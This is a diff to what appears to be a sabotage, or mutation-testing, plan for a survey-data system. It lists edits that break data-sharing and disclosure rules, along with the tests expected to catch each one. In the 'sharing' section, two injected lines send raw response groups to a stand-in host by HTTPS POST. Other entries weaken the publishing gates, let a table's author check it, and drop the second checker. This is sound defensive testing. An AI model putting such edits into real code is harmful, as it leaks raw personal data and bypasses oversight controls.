@@ -1,11 +1,15 @@
-/** What leaves the team (rules 19 and 23 to 25). */
-import { by, change, type Planned, types, write } from "./sabotage.ts"
-import { geographyRule, widened, widenings } from "./widened.ts"
+/** Breaks the way out: what leaves the team (rules 19 and 23 to 25). */
+import { by, change, type Planned, types } from "./sabotage.ts"
+import { geographyGate, widened, widenings } from "./widened.ts"
 
 const router = "src/server/router.ts"
 const submit = "src/server/submit.ts"
+const queue = "src/server/sealing-queue.ts"
+const queueHead = 'import { Context, Data, Effect, type Fiber, FiberSet, Layer } from "effect"\n'
+const sealing = "      const responses = group.map(({ matched }) => matched)\n"
+const imports = by("test", "architecture/ways-out.test.ts", "every module that runs is on the list of its place")
 const matched = "  const matched = yield* match(admitted)\n"
-const speaks = by("test", "architecture.test.ts", "nothing speaks to another host by what needs no import")
+const speaks = by("test", "architecture/ways-out.test.ts", "nothing speaks to another host by what needs no import")
 
 const sharing: readonly Planned[] = [
   {
@@ -13,26 +17,24 @@ const sharing: readonly Planned[] = [
     sabotage: "add an egress module",
     way: "by an import",
     edits: [
-      write(
-        "src/server/export.ts",
-        `import { request } from "node:https"
-
-export const share = (answers: string) => request("https://partner.example", { method: "POST" }).end(answers)`,
+      change(queue, queueHead, `${queueHead}import { request } from "node:https"\n`),
+      change(
+        queue,
+        sealing,
+        `    request("https://partner.example", { method: "POST" }).end(JSON.stringify(group))\n${sealing}`,
       ),
     ],
-    caughtBy: [by("test", "architecture.test.ts", "nothing opens a connection but the browser's own tRPC client")],
+    caughtBy: [imports],
   },
   {
     rule: "raw-data-never-shared",
     sabotage: "add an egress module",
     way: "by an import at run time",
     edits: [
-      write(
-        "src/server/export.ts",
-        `export const share = async (answers: string) => {
-  const { request } = await import("node:https")
-  request("https://partner.example", { method: "POST" }).end(answers)
-}`,
+      change(
+        queue,
+        sealing,
+        `    void import("node:https").then(({ request }) => request("https://partner.example").end(JSON.stringify(group)))\n${sealing}`,
       ),
     ],
     caughtBy: [speaks],
@@ -77,44 +79,24 @@ const published: readonly Planned[] = [
       change(
         router,
         "import { busy, refused }",
-        'import type { Checked } from "../../policy/stage.ts"\nimport { busy, refused }',
+        'import type { Checked } from "../../policy/response/stage.ts"\nimport { busy, refused }',
       ),
-      change(router, "return RegisterMatches.of(exit.value)", "return exit.value as unknown as readonly Checked[]"),
+      change(router, "return publishMatches(exit.value)", "return exit.value as unknown as readonly Checked[]"),
     ],
     caughtBy: [types("raw-data-never-shared")],
   },
   {
     rule: "aggregates-only-beyond-the-team",
     sabotage: "publish rows",
-    way: "as a table",
+    way: "by a procedure, past the compiler",
     edits: [
-      write(
-        "src/server/publishing.ts",
-        `import type { TableDraft } from "../../policy/disclosure/table.ts"
-import type { Checked } from "../../policy/stage.ts"
-
-export const proposed = (rows: readonly Checked[]): TableDraft => ({
-  title: "All answers",
-  geographies: ["England"],
-  cells: rows,
-})`,
+      change(
+        "policy/response/publishable.ts",
+        "(receipts.isOne(value) || matches.isOne(value))",
+        "Object.keys(value).length > 0",
       ),
     ],
-    caughtBy: [{ layer: "types", says: "is missing the following properties from type 'Cell'" }],
-  },
-  {
-    rule: "aggregates-only-beyond-the-team",
-    sabotage: "publish LA-level table",
-    way: "in the call",
-    edits: [
-      write(
-        "src/server/publishing.ts",
-        `import { nationalOrRegional } from "../../policy/rules/aggregates-only-beyond-the-team.ts"
-
-export const draft = nationalOrRegional({ title: "Hopes by council", geographies: ["E09000007"], cells: [] })`,
-      ),
-    ],
-    caughtBy: [types("aggregates-only-beyond-the-team")],
+    caughtBy: [by("runtime", "policy/raw-data-never-shared.test.ts", "a register's row loses")],
   },
   {
     rule: "aggregates-only-beyond-the-team",
@@ -122,7 +104,7 @@ export const draft = nationalOrRegional({ title: "Hopes by council", geographies
     way: "past the gate",
     edits: [
       change(
-        geographyRule,
+        geographyGate,
         "if (table.geographies.every(isPublishable)) return Effect.void",
         'if (table.geographies.every((each) => isPublishable(each) || each.startsWith("E"))) return Effect.void',
       ),
@@ -134,11 +116,11 @@ export const draft = nationalOrRegional({ title: "Hopes by council", geographies
     sabotage: "publish LA-level table",
     way: "past the database",
     edits: [change(widenings, 'const coarse = ["England",', 'const coarse = ["E09000007", "England",')],
-    caughtBy: [by("database", keptReleases, "on sqlite by SQL, a published count of 1 to 9 and a geography")],
+    caughtBy: [by("database", keptReleases, "on sqlite refuses by SQL a published count of 1 to 9")],
   },
 ]
 
-const outputs = "policy/rules/outputs-checked.ts"
+const outputs = "policy/release/checker-gate.ts"
 
 const checking: readonly Planned[] = [
   {
@@ -158,28 +140,22 @@ const checking: readonly Planned[] = [
     sabotage: "author checks own table",
     way: "past the database",
     edits: [change(wayOut, "(author = new.person or proposed_on > new.checked_on)", "(proposed_on > new.checked_on)")],
-    caughtBy: [by("database", keptReleases, "on sqlite by SQL, the author as a checker")],
+    caughtBy: [by("database", keptReleases, "on sqlite refuses by SQL the author as a checker")],
   },
   {
     rule: "outputs-checked",
     sabotage: "same checker twice",
     way: "by naming one alone",
-    edits: [
-      write(
-        "src/server/checking.ts",
-        `import type { OutputCheck } from "../../policy/disclosure/output-check.ts"
-import { checkedBy } from "../../policy/rules/outputs-checked.ts"
-
-export const alone = (check: OutputCheck) => checkedBy(check)`,
-      ),
-    ],
+    edits: [change("src/tables/workflow/release.ts", "checks: [first, second]", "checks: [first]")],
     caughtBy: [types("outputs-checked")],
   },
   {
     rule: "outputs-checked",
     sabotage: "same checker twice",
     way: "past the gate",
-    edits: [change(outputs, "< checks.length ? twice : undefined", "< checks.length - 9 ? twice : undefined")],
+    edits: [
+      change(outputs, "< checks.length ? secondChecker : undefined", "< checks.length - 9 ? secondChecker : undefined"),
+    ],
     caughtBy: [by("runtime", "policy/outputs-checked.test.ts", "the same checker twice")],
   },
   {
@@ -187,7 +163,7 @@ export const alone = (check: OutputCheck) => checkedBy(check)`,
     sabotage: "same checker twice",
     way: "past the database",
     edits: [change(wayOut, "} < 2`", "} < 1`")],
-    caughtBy: [by("database", keptReleases, "on sqlite by SQL, the author as a checker")],
+    caughtBy: [by("database", keptReleases, "on sqlite refuses by SQL the author as a checker")],
   },
 ]
 
